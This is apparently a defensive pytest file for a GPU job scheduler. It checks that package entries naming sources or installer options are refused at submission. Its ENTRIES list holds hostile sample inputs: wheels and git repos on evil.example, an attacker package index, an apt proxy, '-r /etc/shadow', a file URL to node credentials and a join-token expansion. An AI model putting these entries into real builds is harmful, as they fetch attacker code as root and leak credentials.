"""Attack class 9: package entries that reach further than names (R-JOB-7).

A job's packages are installed as root, with the network, in a build container on a node
(services/node-agent/README.md, "Base environments and packages"). The attacker's job names
a source instead of a package (a direct URL, a VCS URL, a local path, a package file) or
steers the installer (an option such as `--index-url` or `--config-settings`, alone or
after a name): refused at submission, naming the field and the rule, with nothing stored
and nothing sent to a node.
"""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import pytest

from .attack import Client
from .conftest import ATTACKER_ACCOUNT, System, Victim, attacker_subject, stored, worker_dirs

ENTRIES = [
    ("pip", "evil @ file:///var/lib/gpufleet/agent/node.creds"),
    ("pip", "evil @ https://evil.example/evil-1.0-py3-none-any.whl"),
    ("pip", "git+https://evil.example/evil.git"),
    ("pip", "/var/lib/gpufleet/agent"),
    ("pip", "--index-url=http://evil.example/simple"),
    ("pip", "numpy --config-settings=--build-option=--evil"),
    ("requirements", "--extra-index-url http://evil.example/simple"),
    ("requirements", "-r /etc/shadow"),
    ("requirements", "numpy --global-option=build_ext"),
    ("requirements", "numpy==1.26 ${GPUFLEET_JOIN_TOKEN}"),
    ("apt", "./evil.deb"),
    ("apt", "-oAcquire::http::Proxy=http://evil.example"),
    ("conda", "evil-channel::numpy"),
    ("conda", "https://evil.example/evil-1.0-0.conda"),
]


@pytest.mark.parametrize(("kind", "entry"), ENTRIES)
async def test_a_package_entry_naming_a_source_or_an_option_is_refused(
    system: System, victim: Victim, eve: Path, kind: str, entry: str
) -> None:
    name = f"pkgs-{uuid.uuid4().hex[:8]}"
    body: dict[str, Any] = {
        "spec": {
            "name": name,
            "gpu_types": ["RTX 3090"],
            "command": ["true"],
            "environment": {"packages": {kind: [entry]}},
        }
    }
    workers = worker_dirs(system)
    async with Client(system.nats.url, eve) as attacker:
        refused = await attacker.request(attacker_subject("scheduler", "submit_job"), body)
    assert refused.get("ok") is False, refused
    assert refused["error"]["code"] == "invalid"
    fields = [(f["field"], f["rule"]) for f in refused["error"]["fields"]]
    assert fields == [(f"spec.environment.packages.{kind}.0", "R-JOB-7")], refused
    assert refused["error"]["fields"][0]["message"].startswith(f"{entry}: ")
    assert stored(system, "scheduler", "jobs", {"owner": ATTACKER_ACCOUNT, "name": name}) == []
    assert worker_dirs(system) == workers
    await victim.assert_untouched()
